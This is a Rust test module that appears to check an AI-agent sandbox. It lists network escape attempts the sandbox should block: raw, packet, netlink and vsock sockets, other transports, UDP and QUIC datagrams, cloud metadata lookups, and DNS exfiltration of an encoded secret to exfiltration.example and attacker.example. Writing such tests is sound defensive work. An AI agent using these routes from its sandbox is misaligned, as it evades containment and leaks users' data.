//! Ways out that are not TCP: socket families, datagrams, DNS.

use super::Stopped::{Errno, Rcode};
use super::attempt::{Attempt, each};
use super::system::call;
use super::talk::{A, AAAA, ANY, HTTPS, RESOLVER, TXT, datagram, resolve, resolver_answers};
use super::{Attack, Context, Control, Outcome, Scope, Seen, Stopped};

const EPERM: &[Stopped] = &[Errno(libc::EPERM)];
const NO_SUCH_NAME: &[Stopped] = &[Rcode(3)];

/// A family or protocol that this kernel was not built with.
const WORKS_OR_NOT_BUILT: Control = Control::Outside(&[
    Seen::Success,
    Seen::Errno(libc::EAFNOSUPPORT),
    Seen::Errno(libc::EPROTONOSUPPORT),
    Seen::Errno(libc::ESOCKTNOSUPPORT),
    Seen::Errno(libc::ENOPROTOOPT),
    Seen::Errno(libc::EACCES),
    Seen::Errno(libc::EINVAL),
]);

/// A kind of socket that the filter refuses.
const fn socket(
    name: &'static str,
    what: &'static str,
    reference: &'static str,
    run: fn(&Context) -> Outcome,
    control: Control,
) -> Attack {
    Attack { name, what, reference, expect: EPERM, layer: "seccomp", scope: Scope::Everywhere, run, control }
}

/// A datagram that the fence of the cell's network namespace drops.
const fn fenced(
    name: &'static str,
    what: &'static str,
    reference: &'static str,
    run: fn(&Context) -> Outcome,
) -> Attack {
    let control = Control::Inside(resolver_answers);
    Attack { name, what, reference, expect: EPERM, layer: "network fence", scope: Scope::Everywhere, run, control }
}

/// A name that the stub DNS does not give.
const fn unnamed(
    name: &'static str,
    what: &'static str,
    reference: &'static str,
    run: fn(&Context) -> Outcome,
) -> Attack {
    let control = Control::Inside(resolver_answers);
    Attack { name, what, reference, expect: NO_SUCH_NAME, layer: "stub DNS", scope: Scope::Everywhere, run, control }
}

/// What an agent has read, as a name under an attacker's domain.
const STOLEN: &str = "bXkgYmFuayBrZXkgaXMgMTIzNA.x7.exfiltration.example";

pub(super) const ATTACKS: &[Attack] = &[
    socket(
        "raw-socket",
        "send packets of any protocol, with any source",
        "",
        |_| each([libc::AF_INET, libc::AF_INET6], |family| open(family, libc::SOCK_RAW, libc::IPPROTO_RAW)),
        Control::OutsideRoot(&[Seen::Success]),
    ),
    socket(
        "raw-icmp-socket",
        "carry data in pings",
        "",
        |_| open(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP),
        Control::OutsideRoot(&[Seen::Success]),
    ),
    socket(
        "ping-socket",
        "carry data in pings without privileges",
        "",
        |_| open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP),
        Control::Outside(&[Seen::Success, Seen::Errno(libc::EACCES)]),
    ),
    socket(
        "packet-socket",
        "read and send whole frames",
        "CVE-2020-14386",
        |_| each([libc::SOCK_RAW, libc::SOCK_DGRAM], |kind| open(libc::AF_PACKET, kind, 0)),
        Control::OutsideRoot(&[Seen::Success]),
    ),
    Attack {
        name: "routing-socket",
        what: "change addresses and routes through the routing socket",
        reference: "bubblewrap, srt, codex: allowed",
        expect: EPERM,
        layer: "seccomp",
        scope: Scope::Restricted,
        run: |_| open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_ROUTE),
        control: Control::Outside(&[Seen::Success]),
    },
    socket(
        "netlink-sockets",
        "reach firewall, audit, device events and generic families of the kernel",
        "CVE-2023-32233",
        |_| {
            let protocols = [
                libc::NETLINK_NETFILTER,
                libc::NETLINK_AUDIT,
                libc::NETLINK_KOBJECT_UEVENT,
                libc::NETLINK_GENERIC,
                libc::NETLINK_SOCK_DIAG,
            ];
            each(protocols, |protocol| open(libc::AF_NETLINK, libc::SOCK_RAW, protocol))
        },
        Control::Outside(&[Seen::Success]),
    ),
    socket(
        "host-machine-socket",
        "talk to the hypervisor, which no network namespace prevents",
        "bubblewrap, srt: allowed",
        |_| each([libc::SOCK_STREAM, libc::SOCK_DGRAM], |kind| open(libc::AF_VSOCK, kind, 0)),
        Control::Outside(&[Seen::Success, Seen::Errno(libc::EAFNOSUPPORT)]),
    ),
    socket(
        "kernel-crypto-socket",
        "reach the kernel's cipher code",
        "CVE-2019-8912",
        |_| open(libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
        WORKS_OR_NOT_BUILT,
    ),
    socket(
        "sctp-socket",
        "leave by another transport: SCTP",
        "OpenShell",
        |_| open(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_SCTP),
        WORKS_OR_NOT_BUILT,
    ),
    socket(
        "mptcp-socket",
        "leave by another transport: MPTCP",
        "",
        |_| open(libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_MPTCP),
        WORKS_OR_NOT_BUILT,
    ),
    socket(
        "udp-lite-socket",
        "leave by another transport: UDP-Lite",
        "OpenShell: the datagram was sent",
        |_| open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE),
        WORKS_OR_NOT_BUILT,
    ),
    socket(
        "dccp-socket",
        "leave by another transport: DCCP",
        "CVE-2017-6074",
        |_| open(libc::AF_INET, SOCK_DCCP, libc::IPPROTO_DCCP),
        WORKS_OR_NOT_BUILT,
    ),
    socket(
        "every-other-socket-family",
        "make sockets of all families that no agent needs",
        "",
        |_| {
            // 1, 2, 10 and 16 are local, IPv4, IPv6 and netlink.
            let families = (3..46).filter(|family| ![libc::AF_INET6, libc::AF_NETLINK].contains(family));
            each(families, |family| open(family, libc::SOCK_DGRAM, 0))
        },
        Control::Inside(|_| super::attempt::must_succeed(&open(libc::AF_INET, libc::SOCK_DGRAM, 0))),
    ),
    socket(
        "socket-family-with-high-bits",
        "make a packet socket by a family with bits that the kernel ignores",
        "CVE-2019-7303 class",
        |_| {
            call!(libc::SYS_socket, 1 << 32 | i64::from(libc::AF_NETLINK), libc::SOCK_RAW, libc::NETLINK_GENERIC)
                .outcome()
        },
        Control::Outside(&[Seen::Success]),
    ),
    Attack {
        name: "tls-in-kernel",
        what: "attach the kernel's TLS to a socket",
        reference: "CVE-2023-0461",
        expect: &[Errno(libc::ENOENT)],
        layer: "seccomp",
        scope: Scope::Everywhere,
        run: |_| {
            const TCP_ULP: i32 = 31;
            match rustix::net::socket(rustix::net::AddressFamily::INET, rustix::net::SocketType::STREAM, None) {
                Ok(socket) => {
                    use std::os::fd::AsRawFd;
                    call!(libc::SYS_setsockopt, socket.as_raw_fd(), libc::IPPROTO_TCP, TCP_ULP, c"tls", 3).outcome()
                }
                Err(error) => Outcome::Broken(format!("cannot make a socket: {error}")),
            }
        },
        control: Control::Inside(|_| {
            let stream = std::net::TcpStream::connect(super::talk::PROXY).map_err(|error| error.to_string())?;
            stream.set_nodelay(true).map_err(|error| error.to_string())
        }),
    },
    fenced("udp-to-the-internet", "send data in datagrams that are not DNS", "claude-code 87381", |_| {
        each(["8.8.8.8:443", "1.1.1.1:53053", "93.184.216.34:9999"], |to| datagram(to, STOLEN.as_bytes()))
    }),
    fenced("quic", "leave by HTTP/3", "", |_| datagram("1.1.1.1:443", &[0xc0; 1200])),
    fenced("time-protocol", "carry data in time requests", "", |_| datagram("162.159.200.1:123", &[0x1b; 48])),
    fenced("udp-over-ipv6", "the same over IPv6", "engine.md: no route", |_| {
        each(["[2001:4860:4860::8888]:443", "[2606:4700:4700::1111]:853"], |to| datagram(to, STOLEN.as_bytes()))
    }),
    fenced("udp-to-metadata-service", "reach the cloud's metadata service by datagram", "", |_| {
        datagram("169.254.169.254:80", b"x")
    }),
    fenced("multicast-names", "shout names to the local network: mDNS, LLMNR, SSDP", "microsandbox 675", |_| {
        let mdns = b"\0\0\0\0\0\x01\0\0\0\0\0\0\x01x\x05local\0\0\x01\0\x01";
        each(["224.0.0.251:5353", "224.0.0.252:5355", "239.255.255.250:1900"], |to| datagram(to, mdns))
    }),
    fenced("broadcast", "broadcast to the local network", "", |_| {
        each(["255.255.255.255:67", "10.0.2.255:137"], |to| datagram(to, b"x"))
    }),
    unnamed(
        "name-as-message",
        "hide a secret in a name and look it up",
        "OpenShell #1169; microsandbox 675; srt 88",
        |_| resolve(RESOLVER, STOLEN, A),
    ),
    unnamed(
        "name-as-message-to-public-resolver",
        "the same, asking a resolver on the internet",
        "OpenShell #1169",
        |_| each(["8.8.8.8:53", "1.1.1.1:53", "9.9.9.9:53"], |server| resolve(server, STOLEN, A)),
    ),
    unnamed("name-as-message-over-ipv6", "the same, asking a resolver over IPv6", "", |_| {
        resolve("[2001:4860:4860::8888]:53", STOLEN, A)
    }),
    unnamed("message-in-text-record", "fetch orders in TXT records", "srt 88", |_| resolve(RESOLVER, STOLEN, TXT)),
    unnamed("other-record-kinds", "ask for IPv6, service and all records", "", |_| {
        each([AAAA, HTTPS, ANY], |kind| resolve(RESOLVER, "attacker.example", kind))
    }),
    unnamed("names-of-metadata-services", "look up the cloud's metadata services", "OpenShell SSRF list", |_| {
        each(["metadata.google.internal", "metadata.goog", "instance-data.ec2.internal"], |name| {
            resolve(RESOLVER, name, A)
        })
    }),
    unnamed("names-of-container-hosts", "look up the names by which container engines give away the host", "", |_| {
        let names =
            ["host.docker.internal", "gateway.docker.internal", "host.containers.internal", "kubernetes.default.svc"];
        each(names, |name| resolve(RESOLVER, name, A))
    }),
    unnamed("resolver-discovery", "ask which encrypted resolver to use", "RFC 9462", |_| {
        each(["_dns.resolver.arpa", "dns.google", "cloudflare-dns.com", "use-application-dns.net"], |name| {
            resolve(RESOLVER, name, A)
        })
    }),
];

/// SOCK_DCCP of the kernel's net.h.
const SOCK_DCCP: i32 = 6;

/// Makes a socket and closes it.
fn open(family: i32, kind: i32, protocol: i32) -> Outcome {
    let made = call!(libc::SYS_socket, family, kind | libc::SOCK_CLOEXEC, protocol);
    drop(made.map(super::processes::owned));
    made.outcome()
}
